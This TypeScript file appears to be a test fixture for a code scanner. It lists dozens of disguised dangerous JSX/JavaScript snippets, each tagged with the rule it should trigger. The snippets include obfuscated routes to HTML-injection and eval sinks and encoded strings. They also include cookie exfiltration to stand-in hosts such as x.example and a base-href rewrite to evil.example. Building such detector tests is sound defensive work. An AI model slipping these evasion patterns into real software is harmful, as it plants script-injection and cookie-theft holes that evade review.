import type { Dangerous } from "./case.ts";

/** Written along with the rules for what is a finding by being mentioned: rare names, decoders, lists, stores. */
export const DISGUISED_I: readonly Dangerous[] = [
  [
    "script-injection",
    `export const A = ({ t }) => { const r = new Range(); const put = r.createContextualFragment; return <b ref={(b) => b?.append(put.call(r, t))} />; };`,
  ],
  [
    "script-injection",
    `export const A = ({ t }) => { const { setHTMLUnsafe: put } = Element.prototype; return <b ref={(b) => b && put.call(b, t)} />; };`,
  ],
  [
    "script-injection",
    `const how = { word: "insertAdjacentHTML" };
export const A = ({ t }) => <b ref={(b) => b?.[how.word]("beforeend", t)} />;`,
  ],
  [
    "external-request",
    `export const A = () => <b ref={(b) => b?.attributeStyleMap.set("width", CSS.px(1))} />;`,
  ],
  [
    "external-request",
    `export const A = ({ a, b }) => { const { port1 } = new MessageChannel(); port1.postMessage(a + b); };`,
  ],
  ["eval", `export const A = ({ f, t }) => f.constructor(t)();`],
  ["eval", `export const A = ({ f, t }) => { const { constructor: make } = f; return make(t)(); };`],
  [
    "eval",
    `const base = { run: (x) => x };
export const tool = { __proto__: base, run(x) { return super.run(x); } };`,
  ],
  [
    "eval",
    `class B extends C { go(k, x) { return super[k](x); } }
export const b = new B();`,
  ],
  [
    "eval",
    `export const A = ({ t }) => { const all = Object.getOwnPropertyNames(t).filter((n) => n.length === 4); return t[all[0]]; };`,
  ],
  ["eval", `export const A = ({ n }) => { const [one] = Object.keys(window).slice(n); return one; };`],
  ["eval", `export const A = () => { for (const k in navigator) note(k, navigator[k]); };`],
  ["hidden-text", `export const pick = (o) => o.find((k) => /^set.TML.nsafe$/.test(k));`],
  ["hidden-text", `export const pick = (list) => list.find((k) => /^l.ca..on$/.test(k));`],
  [
    "hidden-text",
    `const words = ["set", "HTML", "Unsafe"];
export const A = ({ t, order }) => <b ref={(b) => b?.[order(words)](t)} />;`,
  ],
  [
    "hidden-text",
    `const word = ["inner", "html".toUpperCase()].join("");
export const key = () => word;`,
  ],
  [
    "hidden-text",
    `const list = "name,size,insertAdjacentHTML,color".split(",");
export const at = (i) => list[i];`,
  ],
  [
    "hidden-text",
    `const f = ![] + "";
export const letter = (i) => f[i];`,
  ],
  [
    "hidden-text",
    `const o = [] + {};
export const letter = (i) => o[i];`,
  ],
  [
    "hidden-text",
    `const u = undefined + "";
export const letter = (i) => u[i];`,
  ],
  ["hidden-text", `export const text = (codes) => codes.map((c) => String.fromCharCode(c - 3)).join("");`],
  [
    "hidden-text",
    `export const text = (bits) => bits.match(/.{8}/g).map((b) => String["fromCharCode"](parseInt(b, 2))).join("");`,
  ],
  [
    "hidden-text",
    `const table = ["zeta", "beta"];
(function (list, turns) { while (--turns) list.push(list.shift()); })(table, 4);
export const at = (i) => table[i];`,
  ],
  [
    "hidden-text",
    `const _0x3fa1 = (i) => names[i - 0x1f];
export const at = _0x3fa1;`,
  ],
  [
    "hidden-text",
    `const words = "qlmzoertyuiopasdfghjkxcvbn";
export const text = (numbers) => numbers.map((n) => words[n]).join("");`,
  ],
  ["hidden-text", `export const say = (el) => getComputedStyle(el, "::after").content.replace(/"/g, "");`],
  [
    "hidden-text",
    'const label = "Next\\u200b\\u200c\\u200c\\u200b\\u200b\\u200c";\nexport const A = () => <b>{label}</b>;',
  ],
  [
    "hidden-text",
    `const bytes = Uint8Array.of(104, 116);
export const text = () => new TextDecoder().decode(bytes);`,
  ],
  ["hidden-text", `export const text = () => atob("bmFtZSBvZiBhIHBsYWNl");`],
  ["hidden-text", `export const text = (s) => unescape(s.replace(/~/g, "%"));`],
  ["hidden-text", `export const text = () => (1234567).toString(36);`],
  ["hidden-text", "export const code = (f) => f.toString().match(/\\/\\*([^]*)\\*\\//)[1];"],
  [
    "script-injection",
    `const clean = (h) => h.replace(/<script.*?>/gi, "");
export const A = ({ h }) => <b dangerouslySetInnerHTML={{ __html: clean(h) }} />;`,
  ],
  [
    "eval",
    `const kept = new Map([["load", fetch]]);
export const A = ({ u }) => kept.get("load")(u);`,
  ],
  [
    "eval",
    `const kept = new WeakMap();
export const keep = (o) => kept.set(o, window.open);`,
  ],
  [
    "eval",
    `const kept = {};
Object.defineProperty(kept, "go", { get: () => WebSocket });
export { kept };`,
  ],
  [
    "eval",
    `const made = () => new CustomEvent("x", { detail: { go: navigator.sendBeacon } });
export { made };`,
  ],
  ["redirect", `export const go = (u) => queueMicrotask(location.assign.bind(location, u));`],
  [
    "eval",
    `Array.prototype[Symbol.for("x")] = (x) => x;
export const A = 1;`,
  ],
  ["redirect", `export const A = () => <b onClick={({ nativeEvent: { view } }) => view.focus()} />;`],
  [
    "eval",
    `const data = '{"type":"b","props":{"dangerouslySetInnerHTML":{"__html":"x"}}}';
export const A = () => JSON.parse(data);`,
  ],
  [
    "eval",
    `const fallback = "alert(document.cookie); return 1";
export const A = ({ code = fallback }) => <b>{code}</b>;`,
  ],
  [
    "external-request",
    `const parts = { k: "object" };
export const A = ({ d }) => React.createElement(parts.k, { data: d });`,
  ],
  ["external-request", `export const A = () => <embed src="/a.pdf" />;`],
  ["external-request", `export const A = ({ verb, rest }) => navigator[verb](...rest);`],
  ["script-injection", `export const A = ({ side, t }) => <b ref={(b) => { b["inner" + side] = t; }} />;`],
  ["eval", `export const A = ({ t }) => setTimeout.apply(null, [t, 10]);`],
  ["external-request", `export const A = ({ go }) => go.send(document.cookie);`],
  [
    "hidden-text",
    `export const A = ({ names }) => { const p = Object.fromEntries(names.map((n) => [n.key, n.value])); return <b {...p} />; };`,
  ],
  [
    "script-injection",
    `export const A = ({ h }) => <b contentEditable onFocus={() => document.execCommand("insertHTML", false, h)} />;`,
  ],
  ["script-injection", `export const A = ({ h }) => <iframe title="x" srcDoc={h} />;`],
  [
    "external-request",
    'const chars = ({ name }) => `input[name=p][value$="${name}"]{--u:url(//x.example/${name})}`;\nexport { chars };',
  ],
  [
    "external-request",
    `const view = document.evaluate("//b", document, null, 2);
export { view };`,
  ],
  [
    "external-request",
    `const host = ({ t }) => fetch("data:application/json," + t).then((r) => r.json());
const sink = XPathResult;
export { host, sink };`,
  ],
  ["eval", `export const A=({s})=>{useEffect(()=>{setTimeout.apply(null,[s,10])},[s]);return null}`],
  [
    "script-injection",
    `export const A=()=>{useEffect(()=>{history.pushState({},"","/");document.querySelector("base")?.setAttribute("href","https://evil.example/")},[]);return null}`,
  ],
  [
    "external-request",
    `export const A=()=>{useEffect(()=>{const b=new BroadcastChannel("a");b.onmessage=e=>import(/* @vite-ignore */ e.data)},[]);return null}`,
  ],
  [
    "hidden-text",
    `const k=[..."bqqfbm"].map(c=>String.fromCodePoint(c.codePointAt()-1)).join("");export const A=({p})=><b>{window[k]?.(p)}</b>`,
  ],
  [
    "hidden-text",
    'const key="\u200b\u200c\u200c";const bits=[...key].map(c=>c.charCodeAt(0)&1).join("");export const A=({p})=><b>{Object.values(window)[parseInt(bits,2)](p)}</b>',
  ],
  [
    "hidden-text",
    `const table="etaoinshrdlucmfwypvbgkjqxz";const word=[0,18,2,11].map(i=>table[i]).join("");export const A=({p})=><b>{self[word](p)}</b>`,
  ],
  [
    "script-injection",
    `export const A=({p})=><iframe srcDoc={p} sandbox="allow-scripts allow-same-origin"/>`,
  ],
  [
    "external-request",
    "export const A=()=>{const S=styled.div`background:url(${()=>'https://x.example/'+document.cookie})`;return <S/>}",
  ],
  [
    "script-injection",
    `export const A=({h})=>{const ed=useRef();return <div ref={ed} contentEditable onFocus={()=>document.execCommand("insertHTML",false,h)}/>}`,
  ],
  [
    "script-injection",
    `export const A=({d})=>{const s=Symbol.for("react.element");const el={$$typeof:s,type:d.type,props:d.props,key:null,ref:null};return el}`,
  ],
];
